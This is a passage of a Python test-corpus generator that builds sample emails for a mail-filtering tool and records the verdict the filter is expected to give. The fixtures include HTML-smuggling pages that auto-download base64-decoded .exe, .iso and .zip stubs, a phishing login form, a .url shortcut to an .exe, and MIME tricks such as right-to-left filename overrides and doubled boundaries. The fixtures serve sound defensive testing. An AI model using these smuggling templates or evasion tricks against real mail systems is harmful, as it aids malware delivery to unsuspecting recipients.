        out += binascii.b2a_uu(data[i:i + 45], backtick=True)
    return out + b"`\nend\n"


def rfc2047(s):
    return "=?UTF-8?B?" + base64.b64encode(s.encode("utf-8")).decode() + "?="


def rfc2231(s):
    from urllib.parse import quote
    return "UTF-8''" + quote(s.encode("utf-8"), safe="")


class E:
    """A MIME entity: header list + body bytes (LF line ends) or children."""

    def __init__(self, headers, body=b"", children=None, boundary=None,
                 preamble=b"", epilogue=b"", close=True):
        self.headers = headers
        self.body = body
        self.children = children
        self.boundary = boundary
        self.preamble = preamble
        self.epilogue = epilogue
        self.close = close

    def render(self):
        out = bytearray()
        self._render(out)
        return bytes(out)

    def _render(self, out):
        for n, v in self.headers:
            out += n.encode("utf-8", "surrogateescape") + b": "
            out += v if isinstance(v, bytes) else v.encode("utf-8", "surrogateescape")
            out += b"\n"
        out += b"\n"
        if self.children is None:
            out += self.body
            return
        bd = self.boundary.encode()
        out += self.preamble
        for c in self.children:
            out += b"--" + bd + b"\n"
            c._render(out)
            if not out.endswith(b"\n"):
                out += b"\n"
        if self.close:
            out += b"--" + bd + b"--\n" + self.epilogue


def text(body, subtype="plain", charset="utf-8", cte="8bit", extra=()):
    data = body.encode(charset) if isinstance(body, str) else body
    if cte == "quoted-printable":
        data = qp_all(data, force=b"")
    if not data.endswith(b"\n"):
        data += b"\n"
    h = [("Content-Type", "text/%s; charset=%s" % (subtype, charset))]
    if cte != "7bit-implicit":
        h.append(("Content-Transfer-Encoding", cte))
    return E(h + list(extra), data)


def attach(filename, data, ctype="application/octet-stream", cte="base64",
           disp="attachment", name_param=None, disp_param=None, extra=()):
    """name_param/disp_param: raw parameter strings to use instead of the
    plain quoted filename (for RFC 2047 / 2231 / odd names)."""
    np = name_param if name_param is not None else 'name="%s"' % filename
    dp = disp_param if disp_param is not None else 'filename="%s"' % filename
    h = [("Content-Type", "%s; %s" % (ctype, np)),
         ("Content-Disposition", "%s; %s" % (disp, dp)),
         ("Content-Transfer-Encoding", cte)] + list(extra)
    body = b64(data) if cte == "base64" else (qp_all(data) if cte == "quoted-printable" else data)
    return E(h, body)


def multipart(subtype, children, boundary, extra_params="", **kw):
    return E([("Content-Type", 'multipart/%s; boundary="%s"%s' % (subtype, boundary, extra_params))],
             children=children, boundary=boundary, **kw)


DATES = ["Mon, 04 Mar 2024 09:15:00 +0100", "Tue, 05 Mar 2024 14:02:31 +0100",
         "Wed, 06 Mar 2024 07:48:12 +0000", "Thu, 07 Mar 2024 18:30:05 -0500",
         "Fri, 08 Mar 2024 11:11:11 +0900"]

SENDERS = {
    "en": ('"Mark Ellison" <mark.ellison@customer.example>', "support@contact-center.example"),
    "de": ('"Jana Hoffmann" <j.hoffmann@kunde.example>', "kundenservice@contact-center.example"),
    "es": ('"Lucía Martín" <lucia.martin@cliente.example>', "atencion@contact-center.example"),
    "fr": ('"Élodie Bernard" <elodie.bernard@client.example>', "service@contact-center.example"),
    "cs": ('"Petr Dvořák" <petr.dvorak@zakaznik.example>', "podpora@contact-center.example"),
    "ja": ('"田中 美咲" <misaki.tanaka@kokyaku.example>', "support-jp@contact-center.example"),
    "pl": ('"Anna Wiśniewska" <anna.w@klient.example>', "obsluga@contact-center.example"),
    "pt": ('"João Pereira" <joao.pereira@cliente.example>', "suporte@contact-center.example"),
}


def top(name, idx, lang, subject, entity, extra=()):
    frm, to = SENDERS[lang]
    h = [("From", frm if all(ord(c) < 128 for c in frm) else _enc_display(frm)),
         ("To", to),
         ("Subject", subject if all(ord(c) < 128 for c in subject) else rfc2047(subject)),
         ("Date", DATES[idx % len(DATES)]),
         ("Message-ID", "<%s.%04d@corpus.sluice.test>" % (name, idx)),
         ("MIME-Version", "1.0")] + list(extra)
    return E(h + entity.headers, entity.body, entity.children, entity.boundary,
             entity.preamble, entity.epilogue, entity.close)


def _enc_display(addr):
    disp, rest = addr.rsplit(" <", 1)
    return rfc2047(disp.strip('"')) + " <" + rest


# --------------------------------------------------------------------------
# payloads
# --------------------------------------------------------------------------

PE = make_pe()

SMUGGLE_BLOB = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice 2024-118</title></head>
<body>
<p>Your invoice is being prepared, please wait...</p>
<script>
  var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
  var raw = window.atob(b64);
  var bytes = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }
  var blob = new Blob([bytes], {type: "application/octet-stream"});
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "Invoice_2024-118.iso";
  document.body.appendChild(a);
  a.click();
</script>
</body></html>
"""

HTML_SAMPLES = {
    "smuggling_blob_download.html": SMUGGLE_BLOB,
    "smuggling_mssaveoropenblob.html": """<html>
<BODY onload="go()">
<SCRIPT type="text/javascript">
function go() {
    var d   =   ATOB ( "UEsDBBQAAAAIAAAAIQA=" );
    var arr = new   Uint8Array(d.length);
    for (var k = 0; k < d.length; k++) arr[k] = d.charCodeAt(k);
    var f = new    Blob( [arr] , { type : 'application/zip' } );
    if (window.navigator.msSaveOrOpenBlob) {
        window.navigator.msSaveOrOpenBlob(f, "Lieferschein.zip");
    }
}
</SCRIPT>
</BODY></html>
""",
    "smuggling_datauri_link.html": """<html><body>
<p>Estimado cliente, su factura se descarga automáticamente.</p>
<a id="f" href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=" download="factura.exe">factura</a>
<script>document.getElementById("f").click();</script>
</body></html>
""",
    "smuggling_datauri_script.html": """<html><head><title>Lieferung</title></head><body>
<p>Ihre Lieferbestätigung wird geöffnet.</p>
<script>
var p = "UEsDBAoAAAAAAAAAIQAAAAAAAAAAAAAAAAAJAAAAcmVhZG1lLnR4dA==";
var link = document.createElement('a');
link.href = "data:application/octet-stream;base64," + p;
link.download = "Lieferschein.zip";
document.body.appendChild(link);
link.click();
</script>
</body></html>
""",
    "smuggling_datauri_attr_first.html": """<html><body><a download="rechnung.exe"   href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA">Rechnung öffnen</a></body></html>
""",
    "clean_download_link.html": """<!DOCTYPE html>
<html><head><title>Newsletter</title></head>
<body>
<h1>Spring news</h1>
<p>Download our new price list: <a href="https://www.example.com/prices.pdf" download>prices.pdf</a></p>
<p>Read the <a href="https://www.example.com/blog">blog</a>.</p>
</body></html>
""",
    "clean_csv_export.html": """<html><body>
<button id="exp">Export CSV</button>
<script>
document.getElementById("exp").onclick = function () {
  var blob = new Blob(["a,b\\n1,2\\n"], {type: "text/csv"});
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "export.csv";
  a.click();
};
</script>
</body></html>
""",
    "clean_atob_token.html": """<html><body>
<script>
var token = "eyJ1c2VyIjoiYWdlbnQifQ==";
var info = JSON.parse(atob(token));
document.write("Hello " + info.user);
</script>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
</body></html>
""",
    "clean_data_page_and_download.html": """<html><body><p>See <a href="data">our data page</a> and <a href="manual.pdf" download="manual.pdf">the manual</a>.</p></body></html>
""",
}

BINARY_PAYLOADS = {
    "eicar.com": EICAR,
    "eicar_lf.com": EICAR + b"\n",
    "eicar_crlf.com": EICAR + b"\r\n",
    "pe32.exe": PE,
    "elf64": make_elf(),
    "macho64": make_macho(),
    "shortcut.lnk": make_lnk(),
    "image.iso": make_iso(),
    "disk.vhd": make_vhd(),
    "disk.vhdx": make_vhdx(),
    "notebook.one": make_onenote(),
    "installer.msi": make_msi(),
    "macros.doc": vba_project_cfb(),
    "macros.docm": make_docx("Objednávka č. 2024/118", macro=True),
    "plain.docx": make_docx("Rechnung März 2024"),
    "invoice.pdf": make_pdf(["Invoice 2024-0117", "Total: 118.00 EUR"]),
    "logo.png": make_png(),
    "winmail.dat": tnef([("eicar.com", EICAR)]),
    "encrypted.zip": make_zip([("Rechnung.exe", PE)], password=b"2024"),
}


# --------------------------------------------------------------------------
# the cases
# --------------------------------------------------------------------------

CASES = []   # (name, raw bytes, expect text)


def case(name, crlf, entity_or_bytes, expect):
    raw = entity_or_bytes if isinstance(entity_or_bytes, bytes) else entity_or_bytes.render()
    if crlf:
        assert b"\r" not in raw, name
        raw = raw.replace(b"\n", b"\r\n")
    exp = "# %s (%s line ends)\n" % (name, "CRLF" if crlf else "LF")
    exp += "\n".join(l.strip() for l in expect.strip().splitlines()) + "\n"
    CASES.append((name, raw, exp))


def nxt():
    return len(CASES) + 1


def mixed(name, lang, subject, parts, crlf, expect, bnd=None, extra=()):
    i = nxt()
    ent = multipart("mixed", parts, bnd or "=_sluice_%s_%04d" % (name, i))
    case(name, crlf, top(name, i, lang, subject, ent, extra), expect)


T = {
    "en_invoice": "Hello,\n\nplease find attached the invoice for order 2024-118.\n"
                  "Let me know if anything is missing.\n\nKind regards,\nMark Ellison\n",
    "en_complaint": "Hi support team,\n\nmy parcel (tracking 7731 0042 9987) still has not arrived,\n"
                    "it is ten days late. The details are in the attachment.\n\nThanks,\nMark\n",
    "de_invoice": "Sehr geehrte Damen und Herren,\n\nanbei die Rechnung für März. Bitte prüfen Sie "
                  "die Beträge.\n\nMit freundlichen Grüßen\nJana Hoffmann\n",
    "de_delivery": "Guten Tag,\n\ndie Lieferung vom 28.02. war unvollständig, zwei Artikel fehlen.\n"
                   "Den Lieferschein finden Sie im Anhang.\n\nViele Grüße\nJana Hoffmann\n",
    "es_invoice": "Buenos días:\n\nles adjunto la factura pendiente. El importe no coincide con el "
                  "pedido.\n\nUn saludo,\nLucía Martín\n",
    "fr_complaint": "Bonjour,\n\nma commande est arrivée endommagée. Vous trouverez les photos et "
                    "la facture en pièce jointe.\n\nCordialement,\nÉlodie Bernard\n",
    "cs_invoice": "Dobrý den,\n\nv příloze posílám fakturu č. 2024/118. Prosím o kontrolu "
                  "a potvrzení přijetí.\n\nS pozdravem\nPetr Dvořák\n",
    "ja_delivery": "お世話になっております。\n\n注文番号 2024-118 の商品がまだ届いておりません。\n"
                   "詳細を添付いたしますのでご確認ください。\n\n田中 美咲\n",
    "pl_complaint": "Dzień dobry,\n\nzamówienie dotarło uszkodzone. W załączniku przesyłam "
                    "dokumenty.\n\nPozdrawiam\nAnna Wiśniewska\n",
    "pt_invoice": "Olá,\n\nsegue em anexo a fatura referente ao mês de março.\n"
                  "Aguardo a confirmação do pagamento.\n\nCumprimentos,\nJoão Pereira\n",
}


def build_cases():
    CASES.clear()
    eic = attach("eicar.com", EICAR)

    # ---- EICAR in every wrapping: rewrite, virus on the right part ---------
    mixed("virus_eicar_base64", "en", "Invoice 2024-118", [text(T["en_invoice"]), eic], True, """
        verdict: rewrite
        finding: virus 2
        removed: 2
        kept: 1""")
    mixed("virus_eicar_qp", "de", "Rechnung März", [
        text(T["de_invoice"], cte="quoted-printable"),
        attach("pruefsumme.txt", EICAR + b"\n", "text/plain; charset=us-ascii", cte="quoted-printable")],
        False, """
        # the EICAR bytes are quoted-printable with '-', '!', '$', ... as =XX: the raw
        # message does not contain the signature string, only the decoded part does
        verdict: rewrite
        finding: virus 2
        removed: 2
        kept: 1""")
    i = nxt()
    case("virus_eicar_uuencode", False, top("virus_eicar_uuencode", i, "es", "Factura pendiente",
         text((T["es_invoice"] + "\n").encode() + uuencode("factura.com", EICAR) + b"\n--\nLucia\n")),
         """
        # single text/plain part (1) with a uuencoded block: the extracted file is 1/1
        verdict: rewrite
        finding: virus 1""")
    mixed("virus_eicar_zip", "fr", "Facture et photos", [
        text(T["fr_complaint"]),
        attach("factures.zip", make_zip([("facture_mars.pdf", make_pdf(["Facture 2024-03"])),
                                         ("eicar.com", EICAR)]), "application/zip")], True, """
        # zip member 2 of part 2 is EICAR (deflated): 2/2
        verdict: rewrite
        finding: virus 2
        removed: 2
        kept: 1""")
    inner = make_zip([("eicar.com", EICAR)])
    mixed("virus_eicar_zip_in_zip", "cs", "Doklady k reklamaci", [
        text(T["cs_invoice"]),
        attach("doklady.zip", make_zip([("precti.txt", "Doklady k reklamaci.\n".encode()),
                                        ("archiv.zip", inner)]), "application/zip")], False, """
        # doklady.zip (part 2) member 2 is archiv.zip, whose member 1 is EICAR: 2/2/1
        verdict: rewrite
        finding: virus 2
        removed: 2
        kept: 1""")
    mixed("virus_eicar_tnef", "en", "Delivery complaint", [
        text(T["en_complaint"]),
        attach("winmail.dat", tnef([("notes.txt", b"Parcel 7731 0042 9987 missing.\r\n"),
                                    ("eicar.com", EICAR)]), "application/ms-tnef")], True, """
        # winmail.dat (part 2) holds notes.txt (2/1) and eicar.com (2/2)
        verdict: rewrite
        finding: virus 2
        removed: 2
        kept: 1""")
    fwd_inner = top("virus_eicar_rfc822_inner", 900, "de", "Rechnung", multipart(
        "mixed", [text(T["de_invoice"]), eic], "=_inner_fwd_0001"))
    mixed("virus_eicar_rfc822", "pt", "Fwd: Rechnung", [
        text("Bom dia,\n\nencaminho a mensagem que recebi do fornecedor.\n\nJoão\n"),
        E([("Content-Type", "message/rfc822"),
           ("Content-Disposition", 'attachment; filename="Rechnung.eml"')], fwd_inner.render())],
        False, """
        # part 2 is message/rfc822; its body is multipart: 2.1 text, 2.2 eicar.com
        verdict: rewrite
        finding: virus 2.2
        removed: 2.2
        kept: 1
        kept: 2.1""")

    # ---- executables -----------------------------------------------------
    mixed("exe_double_extension", "en", "Invoice 2024-118", [
        text(T["en_invoice"]), attach("invoice.pdf.exe", PE)], True, """
        verdict: rewrite
        finding: filetype 2
        finding: filename 2
        removed: 2
        kept: 1""")
    mixed("exe_named_pdf", "de", "Bericht", [
        text(T["de_invoice"]), attach("report.pdf", PE, "application/pdf")], False, """
        # declared application/pdf + name report.pdf, content is PE32
        verdict: rewrite
        finding: filetype|filename 2
        removed: 2
        kept: 1""")
    mixed("exe_elf", "pl", "Aktualizacja oprogramowania", [
        text(T["pl_complaint"]), attach("aktualizacja", make_elf())], False, """
        verdict: rewrite
        finding: filetype 2
        removed: 2
        kept: 1""")
    mixed("exe_macho", "en", "Invoice viewer", [
        text(T["en_invoice"]), attach("InvoiceViewer", make_macho())], True, """
        verdict: rewrite
        finding: filetype 2
        removed: 2
        kept: 1""")

    # ---- scripts, shortcuts, images, installers, macros ------------------
    risky = [
        ("script_js", "es", "Factura_0423.js", "application/javascript",
         b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Popup("sluice corpus test");\r\n'),
        ("script_jse", "de", "Rechnung_0311.jse", "application/octet-stream",
         b"#@~^GgAAAA==sluice corpus encoded script test QwIAAA==^#~@\r\n"),
        ("script_vbs", "en", "Delivery_Note.vbs", "text/vbscript",
         b'Set sh = CreateObject("WScript.Shell")\r\nsh.Popup "sluice corpus test"\r\n'),
        ("script_vbe", "fr", "Facture.vbe", "application/octet-stream",
         b"#@~^FAAAAA==sluice corpus vbe test LwIAAA==^#~@\r\n"),
        ("script_ps1", "en", "update.ps1", "text/plain",
         b'Write-Host "sluice corpus test"\r\nStart-Process notepad.exe\r\n'),
        ("script_bat", "cs", "instalace.bat", "application/x-bat",
         b"@echo off\r\necho sluice corpus test\r\nstart notepad.exe\r\n"),
        ("script_cmd", "pl", "faktura.cmd", "text/plain",
         b"@echo off\r\necho sluice corpus test\r\n"),
        ("script_hta", "es", "Factura.hta", "application/hta",
         b'<html><head><HTA:APPLICATION ID="inv" APPLICATIONNAME="Factura"></head>\r\n'
         b'<body><script language="VBScript">MsgBox "sluice corpus test"</script></body></html>\r\n'),
        ("script_wsf", "de", "Lieferschein.wsf", "text/xml",
         b'<job id="x"><script language="JScript">WScript.Echo("sluice corpus test");</script></job>\r\n'),
        ("script_scr", "pt", "Fotos_2024.scr", "application/octet-stream", PE),
        ("shortcut_lnk", "cs", "Faktura_2024.lnk", "application/octet-stream", make_lnk()),
        ("shortcut_url", "en", "Tracking.url", "application/internet-shortcut",
         b"[InternetShortcut]\r\nURL=https://files.example.net/tracking/7731.exe\r\n"),
        ("diskimage_iso", "cs", "Zasilka_2024.iso", "application/x-iso9660-image", make_iso()),
        ("diskimage_img", "en", "Order_8841.img", "application/octet-stream", make_iso(b"ORDER_8841")),
        ("diskimage_vhd", "de", "Sicherung.vhd", "application/octet-stream", make_vhd()),
        ("diskimage_vhdx", "fr", "Facture_mars.vhdx", "application/octet-stream", make_vhdx()),
        ("onenote_one", "en", "Invoice_March.one", "application/onenote", make_onenote()),
        ("installer_msi", "pl", "Instalator_faktur.msi", "application/x-msi", make_msi()),
        ("office_doc_macros", "cs", "Objednavka_2024.doc", "application/msword", vba_project_cfb()),
        ("office_docm", "es", "Pedido_4471.docm",
         "application/vnd.ms-word.document.macroEnabled.12",
         make_docx("Pedido 4471", macro=True)),
        ("html_attachment", "en", "Account_Verification.html", "text/html",
         b"<html><body><h1>Verify your account</h1><form action=\"https://login.example.org/verify\" "
         b"method=\"post\"><input name=\"user\"><input name=\"password\" type=\"password\">"
         b"<input type=\"submit\"></form></body></html>\r\n"),
        ("html_smuggling", "en", "Invoice_2024-118.html", "text/html", SMUGGLE_BLOB.encode()),
    ]
    notes = {
        "script_scr": "content is PE32",
        "shortcut_lnk": "libmagic: MS Windows shortcut",
        "diskimage_iso": "libmagic: ISO 9660 CD-ROM filesystem data",
        "diskimage_img": "ISO 9660 content under an .img name",
        "diskimage_vhd": "dynamic VHD: footer copy at 0, cxsparse header, footer at end",
        "diskimage_vhdx": "libmagic: Microsoft Disk Image eXtended",
        "onenote_one": "libmagic does not know OneNote (says data): the name and the GUID decide",
        "installer_msi": "libmagic: Composite Document File V2 Document ... MSI Installer",
        "office_doc_macros": "OLE2 with Macros/VBA; clamscan --alert-macros: Heuristics.OLE2.ContainsMacros.VBA",
        "office_docm": "OOXML zip with word/vbaProject.bin (OLE2 VBA project)",
        "html_attachment": "text/html with Content-Disposition attachment",
        "html_smuggling": "matches Sluice.Heuristic.HTMLSmuggling-BlobDownload",
    }
    for k, (name, lang, fname, ctype, data) in enumerate(risky):
        kind = "filetype|filename"
        if name == "html_smuggling":
            kind = "virus|filetype|filename"
        body = {"en": "en_invoice", "de": "de_delivery", "es": "es_invoice", "fr": "fr_complaint",
                "cs": "cs_invoice", "pl": "pl_complaint", "pt": "pt_invoice"}[lang]
        mixed(name, lang, fname.rsplit(".", 1)[0].replace("_", " "), [
            text(T[body]), attach(fname, data, ctype)], k % 2 == 0, """
            # %s
            verdict: rewrite
            finding: %s 2
            removed: 2
            kept: 1""" % (notes.get(name, "attachment " + fname), kind))

    mixed("zip_with_exe", "de", "Lieferschein", [
        text(T["de_delivery"]),
        attach("Lieferschein.zip", make_zip([("Lieferschein.exe", PE)]), "application/zip")], True, """
        # the zip's only member (2/1) is a PE32 executable
        verdict: rewrite
        finding: filetype 2/1
        removed: 2
        kept: 1""")
    mixed("zip_encrypted", "de", "Rechnung (geschützt)", [
        text("Guten Tag,\n\ndie Rechnung ist passwortgeschützt. Passwort: 2024\n\nJana Hoffmann\n"),
        attach("Rechnung_geschuetzt.zip", make_zip([("Rechnung.exe", PE)], password=b"2024"),
               "application/zip")], False, """
        # ZipCrypto (PKWARE traditional) encryption, password 2024, member Rechnung.exe
        verdict: rewrite
        finding: filetype|structure|limit 2
        removed: 2
        kept: 1""")
    rtl = "invoice\u202Egpj.exe"
    mixed("filename_rtl_override", "en", "Invoice photo", [
        text(T["en_invoice"]),
        attach(rtl, PE, name_param="name*=" + rfc2231(rtl), disp_param="filename*=" + rfc2231(rtl))],
        True, """
        # RFC 2231 name invoice<U+202E>gpj.exe (shows as invoiceexe.jpg), content PE32
        verdict: rewrite
        finding: filename 2
        removed: 2
        kept: 1""")

    build_structure_cases()
    build_clean_cases()
    build_url_cases()
    build_docs_cases()
    build_layer_cases()
    build_link_place_cases()
    build_written_cases()
    build_reader_cases()


def build_reader_cases():
    """What other mail readers see where GMime is strict (issue 12), and sloppy
    but harmless mail that must stay clean (issue 10, section 2)."""
    def raw_mixed(name, lang, subject, bnd, parts, crlf, expect, extra=b""):
        i = nxt()
        raw = hdr_block(name, i, lang, subject, extra +
                        ('Content-Type: multipart/mixed; boundary="%s"\n\n' % bnd).encode())
        raw += ("--%s\nContent-Type: text/plain; charset=utf-8\n\n" % bnd).encode() + T["en_invoice"].encode()
        for p in parts:
            raw += ("--%s\n" % bnd).encode() + p
        raw += ("--%s--\n" % bnd).encode()
        case(name, crlf, raw, expect)

    elf = make_elf()
    # neomutt decodes "base64;" (any value starting with base64), GMime does not
    raw_mixed("exe_cte_near_token", "en", "Report", "=_near_cte_0001", [
        b'Content-Type: application/octet-stream; name="report.dat"\n'
        b"Content-Transfer-Encoding: base64;\n\n" + b64(elf)], True, """
        # the permissive reading of the transfer encoding: an ELF program
        verdict: rewrite
        finding: filetype 2
        removed: 2
        kept: 1""")
    # RFC 2231 with a single quote: GMime's name is empty, readers show invoice.js
    raw_mixed("script_name_rfc2231_broken", "de", "Rechnung", "=_2231_0002", [
        b"Content-Type: application/octet-stream\n"
        b"Content-Disposition: attachment; filename*=UTF-8'rechnung.js\n"
        b"Content-Transfer-Encoding: base64\n\n" + b64(b"var s = new ActiveXObject('WScript.Shell');\n")],
        False, """
        verdict: rewrite
        finding: filetype|filename 2
        removed: 2
        kept: 1""")
    # a program by its name, whatever its content
    raw_mixed("exe_by_name_text_content", "fr", "Document", "=_byname_0003", [
        b'Content-Type: application/octet-stream; name="lisezmoi.exe"\n'
        b"Content-Transfer-Encoding: 7bit\n\nCeci est du texte.\n"], True, """
        verdict: rewrite
        finding: filename 2
        removed: 2
        kept: 1""")
    # an attached message (.eml sent as a file) carrying a program
    inner = (b"From: x@customer.example\nSubject: scan\nMIME-Version: 1.0\n"
             b'Content-Type: multipart/mixed; boundary="in"\n\n--in\nContent-Type: text/plain\n\nsee\n'
             b'--in\nContent-Type: application/octet-stream; name="scan.exe"\n'
             b"Content-Transfer-Encoding: base64\n\n" + b64(PE) + b"--in--\n")
    raw_mixed("exe_in_attached_eml", "es", "Reenvío", "=_eml_0004", [
        b'Content-Type: application/octet-stream; name="reenvio.eml"\n'
        b'Content-Disposition: attachment; filename="reenvio.eml"\n'
        b"Content-Transfer-Encoding: base64\n\n" + b64(inner)], False, """
        # parsed as mail: the program is 2/1.2, the attachment that holds it goes
        verdict: rewrite
        finding: filetype 2/1.2
        removed: 2
        kept: 1""")
    # message/partial (total=1) holding a whole message: Python parses it
    raw_mixed("exe_in_message_partial", "pl", "Dokumenty", "=_partial_0005", [
        b'Content-Type: message/partial; id="p1@customer.example"; number=1; total=1\n\n' + inner],
        True, """
        verdict: rewrite
        finding: filetype 2/1.2
        removed: 2
        kept: 1""")
    # a delimiter followed by a form feed: a delimiter to neomutt, ripmime and munpack
    i = nxt()
    raw = hdr_block("struct_delimiter_formfeed", i, "en", "Report",
                    b'Content-Type: multipart/mixed; boundary="=_ff_0006"\n\n')
    raw += (b"--=_ff_0006\nContent-Type: text/plain; charset=utf-8\n\n" + T["en_complaint"].encode() +
            b"--=_ff_0006\f\nContent-Type: application/octet-stream; name=\"report.dat\"\n"
            b"Content-Transfer-Encoding: base64\n\n" + b64(elf) + b"--=_ff_0006--\n")
    case("struct_delimiter_formfeed", False, raw, """
        verdict: quarantine
        finding: structure""")
    # a lone CR hides a header from GMime; Python and ripmime read it
    raw_mixed("struct_lone_cr_header", "cs", "Faktura", "=_cr_0007", [
        b'Content-Type: application/octet-stream; name="faktura.dat"\n'
        b"X-Note: x\rContent-Transfer-Encoding: base64\n\n" + b64(elf)], False, """
        verdict: quarantine
        finding: structure""")
    # real mail: two Cc headers, and a delivery report with the bounced
    # message's MIME headers in text/rfc822-headers
    i = nxt()
    raw = hdr_block("clean_duplicate_cc", i, "en", "Order 2024-118",
                    b"Cc: accounts@customer.example\nCc: mark.ellison@customer.example\n"
                    b"Content-Type: text/plain; charset=utf-8\n\n") + T["en_invoice"].encode()
    case("clean_duplicate_cc", True, raw, """
        verdict: clean
        identical: yes""")
    i = nxt()
    raw = hdr_block("clean_delivery_report", i, "en", "Undelivered Mail Returned to Sender",
                    b'Content-Type: multipart/report; report-type=delivery-status; boundary="=_dsn_0009"\n\n')
    raw += (b"--=_dsn_0009\nContent-Type: text/plain; charset=us-ascii\n\nThis is the mail system.\n"
            b"--=_dsn_0009\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example\n\n"
            b"Final-Recipient: rfc822; nobody@customer.example\nAction: failed\nStatus: 5.1.1\n"
            b"--=_dsn_0009\nContent-Type: text/rfc822-headers\n\nFrom: support@contact-center.example\n"
            b"To: nobody@customer.example\nSubject: Your order\nMIME-Version: 1.0\n"
            b'Content-Type: multipart/alternative; boundary="orig_0001"\n'
            b"--=_dsn_0009--\n")
    case("clean_delivery_report", False, raw, """
        verdict: clean
        identical: yes""")


def hdr_block(name, idx, lang, subject, extra):
    frm, to = SENDERS[lang]
    lines = ["From: " + (frm if all(ord(c) < 128 for c in frm) else _enc_display(frm)),
             "To: " + to, "Subject: " + subject, "Date: " + DATES[idx % len(DATES)],
             "Message-ID: <%s.%04d@corpus.sluice.test>" % (name, idx), "MIME-Version: 1.0"]
    return ("\n".join(lines) + "\n").encode() + extra


def build_structure_cases():
    # two Content-Type headers on the top-level message
    i = nxt()
    raw = hdr_block("struct_two_content_types", i, "en", "Invoice 2024-118",
                    b"Content-Type: text/plain; charset=utf-8\n"
                    b'Content-Type: multipart/mixed; boundary="=_two_ct_0001"\n\n')
    raw += (b"--=_two_ct_0001\nContent-Type: text/plain; charset=utf-8\n\n" + T["en_invoice"].encode() +
            b"--=_two_ct_0001\nContent-Type: application/octet-stream; name=\"data.bin\"\n"
            b"Content-Transfer-Encoding: base64\n\n" + b64(b"\0\1\2\3 sluice corpus") + b"--=_two_ct_0001--\n")
    case("struct_two_content_types", False, raw, """
        verdict: quarantine
        finding: structure""")

    # two Content-Transfer-Encoding headers on part 2
    i = nxt()
    pdf = make_pdf(["Faktura 2024/118"])
    raw = hdr_block("struct_two_cte", i, "cs", "Faktura", b'Content-Type: multipart/mixed; boundary="=_two_cte_0002"\n\n')
    raw += (b"--=_two_cte_0002\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n" +
            T["cs_invoice"].encode() +
            b"--=_two_cte_0002\nContent-Type: application/pdf; name=\"faktura.pdf\"\n"
            b"Content-Transfer-Encoding: base64\nContent-Transfer-Encoding: quoted-printable\n"
            b"Content-Disposition: attachment; filename=\"faktura.pdf\"\n\n" + b64(pdf) + b"--=_two_cte_0002--\n")
    case("struct_two_cte", True, raw, """
        # part 2 says base64 and quoted-printable
        verdict: quarantine
        finding: structure""")

    # boundary parameter given twice with different values; each split is plausible
    i = nxt()
    raw = hdr_block("struct_boundary_twice", i, "de", "Lieferschein",
                    b'Content-Type: multipart/mixed; boundary="AAA_sluice"; boundary="BBB_sluice"\n\n')
    raw += (b"--AAA_sluice\nContent-Type: text/plain; charset=utf-8\n\n" + T["de_delivery"].encode() +
            b"--BBB_sluice\nContent-Type: text/plain; charset=utf-8\n\nErste Lesart.\n"
            b"--AAA_sluice\nContent-Type: application/octet-stream; name=\"lieferschein.exe\"\n"
            b"Content-Transfer-Encoding: base64\n\n" + b64(PE) +
            b"--BBB_sluice\nContent-Type: text/plain; charset=utf-8\n\nZweite Lesart.\n"
            b"--BBB_sluice--\n--AAA_sluice--\n")
    case("struct_boundary_twice", False, raw, """
        # boundary="AAA_sluice"; boundary="BBB_sluice": the AAA reading has a PE part
        verdict: quarantine
        finding: structure""")

    # unterminated multipart (no closing delimiter)
    i = nxt()
    ent = multipart("mixed", [text(T["fr_complaint"]),
                              attach("photo.png", make_png(), "image/png")],
                    "=_unterminated_0004", close=False)
    case("struct_unterminated_multipart", True, top("struct_unterminated_multipart", i, "fr",
         "Colis endommagé", ent), """
        verdict: quarantine
        finding: structure""")

    # nesting 1000 deep
    i = nxt()
    depth = 1000
    raw = bytearray(hdr_block("limit_nesting_1000", i, "en", "Nested", b""))
    for d in range(depth):
        raw += b'Content-Type: multipart/mixed; boundary="n%04d"\n\n--n%04d\n' % (d, d)
    raw += b"Content-Type: text/plain; charset=us-ascii\n\nthe bottom of a 1000-deep nest\n"
    for d in reversed(range(depth)):
        raw += b"--n%04d--\n" % d
    case("limit_nesting_1000", False, bytes(raw), """
        # 1000 nested multipart/mixed, one text/plain leaf at the bottom
        verdict: quarantine
        finding: limit|structure""")

    # 100 000 parts
    i = nxt()
    raw = bytearray(hdr_block("limit_100000_parts", i, "en", "Many parts",
                              b'Content-Type: multipart/mixed; boundary="p"\n\n'))
    for k in range(100000):
        raw += b"--p\n\n%x\n" % (k % 16)
    raw += b"--p--\n"
    case("limit_100000_parts", False, bytes(raw), """
        # 100 000 tiny text/plain parts (implicit type)
        verdict: quarantine
        finding: limit|structure""")

    # a 1 MB header line
    i = nxt()
    raw = hdr_block("limit_header_1mb", i, "en", "Long header",
                    b"X-Customer-Reference: " + b"A7" * (512 * 1024) + b"\n"
                    b"Content-Type: text/plain; charset=utf-8\n\n") + T["en_complaint"].encode()
    case("limit_header_1mb", True, raw, """
        # one unfolded 1 MiB header line
        verdict: quarantine
        finding: limit|structure""")

    # NUL bytes in a header and in the body
    i = nxt()
    raw = hdr_block("struct_nul_bytes", i, "es", "Factura\0 2024",
                    b"Content-Type: text/plain; charset=utf-8\n\n")
    raw += b"Buenos d\xc3\xadas,\0\0 adjunto\0 la factura.\n"
    case("struct_nul_bytes", False, raw, """
        verdict: quarantine
        finding: structure""")

    # invalid UTF-8 in the subject: a sloppy client, not an attack -> clean
    i = nxt()
    raw = hdr_block("invalid_utf8_subject", i, "de", "Rechnung f\xfcr M\xe4rz \xc3(\xff".encode("latin-1").decode("latin-1"),
                    b"")
